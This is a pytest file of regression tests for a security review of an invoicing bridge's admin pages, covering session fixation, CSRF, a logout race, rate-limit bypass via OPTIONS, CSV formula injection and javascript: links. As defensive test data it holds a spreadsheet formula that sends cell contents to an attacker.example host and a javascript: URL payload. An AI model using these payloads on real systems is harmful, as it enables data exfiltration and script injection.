"""Findings of a security review of the status page and the limits on failures, each
tested with the request that showed it."""

from __future__ import annotations

import logging

import pytest
from helpers import ADMIN_TOKEN, csrf_token

from bridge.web import auth_limits

SESSION_KEYS = "bridge:admin_session:*"


def log_in(client, token=ADMIN_TOKEN, environ=None):
    form = client.get("/admin/login", environ_base=environ or {}).get_data(as_text=True)
    return client.post(
        "/admin/login",
        data={"csrf_token": csrf_token(form), "token": token},
        environ_base=environ or {},
    )


@pytest.fixture
def app(make_app):
    return make_app(BRIDGE_ADMIN_TOKENS=ADMIN_TOKEN)


# --- 1. a proxy in front without BRIDGE_TRUSTED_PROXIES -----------------------------------


def test_x_forwarded_for_without_trusted_proxies_warns_once(app, caplog):
    client = app.test_client()
    with caplog.at_level(logging.WARNING, logger="bridge.web.auth_limits"):
        client.get("/healthz")  # no proxy header: nothing to say
        for _ in range(3):
            client.get("/healthz", headers={"X-Forwarded-For": "203.0.113.9"})
    warnings = [r for r in caplog.records if r.getMessage() == auth_limits.UNTRUSTED_PROXY_WARNING]
    assert len(warnings) == 1 and warnings[0].levelno == logging.WARNING


def test_with_trusted_proxies_there_is_no_warning(make_app, caplog):
    client = make_app(BRIDGE_ADMIN_TOKENS=ADMIN_TOKEN, BRIDGE_TRUSTED_PROXIES="1").test_client()
    with caplog.at_level(logging.WARNING, logger="bridge.web.auth_limits"):
        client.get("/healthz", headers={"X-Forwarded-For": "203.0.113.9"})
    assert auth_limits.UNTRUSTED_PROXY_WARNING not in caplog.messages


# --- 2. nothing in Redis before a login ------------------------------------------------------


def test_cookieless_login_forms_store_no_session(app, redis):
    """The attack: 50 cookieless GET /admin/login left 50 sessions in Redis for 30 min."""
    for _ in range(50):
        assert app.test_client().get("/admin/login").status_code == 200
    assert list(redis.scan_iter(SESSION_KEYS)) == []
    # A failed login stores nothing either.
    assert log_in(app.test_client(), "wrong").status_code == 401
    assert list(redis.scan_iter(SESSION_KEYS)) == []


def test_login_still_works_and_opens_one_session(app, redis):
    client = app.test_client()
    assert log_in(client).status_code == 303
    assert client.get("/admin/").status_code == 200
    assert len(list(redis.scan_iter(SESSION_KEYS))) == 1


def test_the_login_form_still_needs_its_own_token(app, redis):
    client = app.test_client()
    form = client.get("/admin/login").get_data(as_text=True)
    token = csrf_token(form)
    assert client.post("/admin/login", data={"token": ADMIN_TOKEN}).status_code == 403
    forged = {"token": ADMIN_TOKEN, "csrf_token": "0" * 64}
    assert client.post("/admin/login", data=forged).status_code == 403
    # Another browser (no nonce cookie) can't use a token it read elsewhere.
    stranger = app.test_client()
    assert (
        stranger.post("/admin/login", data={"token": ADMIN_TOKEN, "csrf_token": token}).status_code
        == 403
    )
    assert list(redis.scan_iter(SESSION_KEYS)) == []
    good = client.post("/admin/login", data={"token": ADMIN_TOKEN, "csrf_token": token})
    assert good.status_code == 303


def test_other_forms_still_need_the_session_csrf_token(app):
    client = app.test_client()
    assert log_in(client).status_code == 303
    assert client.post("/admin/logout", data={}).status_code == 403
    login_form_token = csrf_token(app.test_client().get("/admin/login").get_data(as_text=True))
    assert client.post("/admin/logout", data={"csrf_token": login_form_token}).status_code == 403


def test_a_planted_session_id_is_worth_nothing_after_login(app):
    """Session fixation, now that the login form opens no session: an id an attacker
    planted is replaced at login and opens nothing."""
    client = app.test_client()
    client.set_cookie("bridge_admin", "a" * 43, path="/admin")
    assert log_in(client).status_code == 303
    assert client.get_cookie("bridge_admin", path="/admin").value != "a" * 43
    planted = app.test_client()
    planted.set_cookie("bridge_admin", "a" * 43, path="/admin")
    assert planted.get("/admin/").status_code == 302


# --- 3. only a matching token marks an address as authenticated ------------------------------


def test_an_options_request_does_not_mark_its_address_authenticated(app, redis):
    """The attack: one unauthenticated OPTIONS (Flask answers 200 by itself) exempted its
    address from the overall limit for a day."""
    from bridge.store.connection import authenticated_client_key

    attacker = {"REMOTE_ADDR": "203.0.113.77"}
    client = app.test_client()
    for path in ("/api/v1/invoices/17", "/admin/login"):
        assert client.options(path, environ_base=attacker).status_code == 200
    assert not redis.exists(authenticated_client_key("203.0.113.77"))
    # A correct login from an address still marks it.
    operator = {"REMOTE_ADDR": "198.51.100.20"}
    assert log_in(app.test_client(), environ=operator).status_code == 303
    assert redis.exists(authenticated_client_key("198.51.100.20"))


def test_a_correct_bearer_token_marks_its_address(app, redis, crm_headers):
    from bridge.store.connection import authenticated_client_key

    crm = {"REMOTE_ADDR": "198.51.100.10"}
    app.test_client().get("/api/v1/invoices/17", headers=crm_headers, environ_base=crm)
    assert redis.exists(authenticated_client_key("198.51.100.10"))


def test_the_in_process_cache_of_addresses_is_bounded(redis):
    from bridge.store.authenticated_clients import AuthenticatedClients

    clients = AuthenticatedClients(redis, local_max=3)
    for n in range(50):
        clients.mark(f"192.0.2.{n}")
    assert clients.cached() == 3
    assert clients.known("192.0.2.0")  # forgotten locally, still known through Redis


# --- 4. a request under way at the logout does not bring the session back --------------------


def test_a_request_under_way_at_logout_does_not_resurrect_the_session(make_app, redis):
    import threading

    app = make_app(BRIDGE_ADMIN_TOKENS=ADMIN_TOKEN)
    opened, release = threading.Event(), threading.Event()

    def slow() -> str:  # a page that opened the session, then waits (a slow Redis, say)
        from flask import session

        assert session.get("admin")
        opened.set()
        assert release.wait(30)
        return "done"

    app.add_url_rule("/admin/slow-test-page", view_func=slow)
    client = app.test_client()
    assert log_in(client).status_code == 303
    cookie = client.get_cookie("bridge_admin", path="/admin").value

    slow_client = app.test_client()
    slow_client.set_cookie("bridge_admin", cookie, path="/admin")
    answers = []
    thread = threading.Thread(
        target=lambda: answers.append(slow_client.get("/admin/slow-test-page"))
    )
    thread.start()
    assert opened.wait(30)
    form = client.get("/admin/").get_data(as_text=True)
    assert client.post("/admin/logout", data={"csrf_token": csrf_token(form)}).status_code == 303
    assert list(redis.scan_iter(SESSION_KEYS)) == []
    release.set()  # the slow request ends after the logout, and saves its session
    thread.join(30)

    assert answers[0].status_code == 200
    assert list(redis.scan_iter(SESSION_KEYS)) == []
    replayed = app.test_client()
    replayed.set_cookie("bridge_admin", cookie, path="/admin")
    assert replayed.get("/admin/").status_code == 302


# --- 5. no formulas in the CSV ---------------------------------------------------------------


def test_the_csv_neutralizes_formulas_from_the_crm(app, crm_headers, tourwell, finan):
    """The attack: a customer named =HYPERLINK(...) in the CRM became a live formula in the
    operators' spreadsheet."""
    import csv as csv_module
    import io

    from helpers import issue

    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    with tourwell.state.lock:
        tourwell.state.invoices[17]["order_info"]["customer"]["name"] = formula
        tourwell.state.invoices[17]["code"] = "@SUM(1+1)"
    client = app.test_client()
    assert issue(client, crm_headers).status_code == 201
    assert log_in(client).status_code == 303
    body = client.get("/admin/invoices.csv?lang=en").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv_module.reader(io.StringIO(body)))
    (row,) = [row for row in rows[1:] if row[0] == "17"]
    assert row[1] == "'@SUM(1+1)" and row[2] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


# --- 6. smaller findings ----------------------------------------------------------------


def logged_in_client(app):
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    assert log_in(client).status_code == 303
    return client


def test_a_rejected_resync_keeps_finans_words_out_of_the_session(app, crm_headers, finan, redis):
    # Finan's message may quote the customer; the session in Redis is not encrypted.
    client = logged_in_client(app)
    finan.state.fail_next("client_error")
    assert client.post("/api/v1/invoices/20/issue", headers=crm_headers).status_code == 502
    finan_words = app.extensions["bridge"].records.get(20).last_error["message"]
    finan.state.fail_next("client_error")
    form = client.get("/admin/invoice/20").get_data(as_text=True)

    client.post("/admin/invoice/20/resync", data={"csrf_token": csrf_token(form)})

    stored = b"".join(redis.get(key) for key in redis.scan_iter(SESSION_KEYS))
    assert b"Finan rejected it" in stored
    assert finan_words.encode() not in stored
    shown = client.get("/admin/invoice/20").get_data(as_text=True)
    assert "Re-sync did not go through: Finan rejected it" in shown


def test_a_lookup_url_that_is_not_http_is_not_a_link(app, crm_headers, finan):
    # Without PROVIDER_LOOKUP_URL_TEMPLATE the record keeps the link the CRM sent.
    api = app.test_client()
    assert api.post("/api/v1/invoices/17/issue", headers=crm_headers).status_code == 201
    sent = api.put(
        "/api/v1/invoices/17", headers=crm_headers, json={"lookup_url": "javascript:alert(1)"}
    )
    assert sent.status_code == 200, sent.json
    assert app.extensions["bridge"].records.get(17).lookup_url == "javascript:alert(1)"
    client = logged_in_client(app)

    html = client.get("/admin/invoice/17").get_data(as_text=True)

    assert 'href="javascript:' not in html


def test_a_page_number_far_past_the_end_is_not_a_redis_error(app):
    client = logged_in_client(app)
    assert client.get("/admin/batches?page=999999999999999999").status_code == 200
    api = app.test_client()
    api_headers = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    too_far = api.get("/admin/resync?page=999999999999999999", headers=api_headers)
    assert too_far.status_code == 422
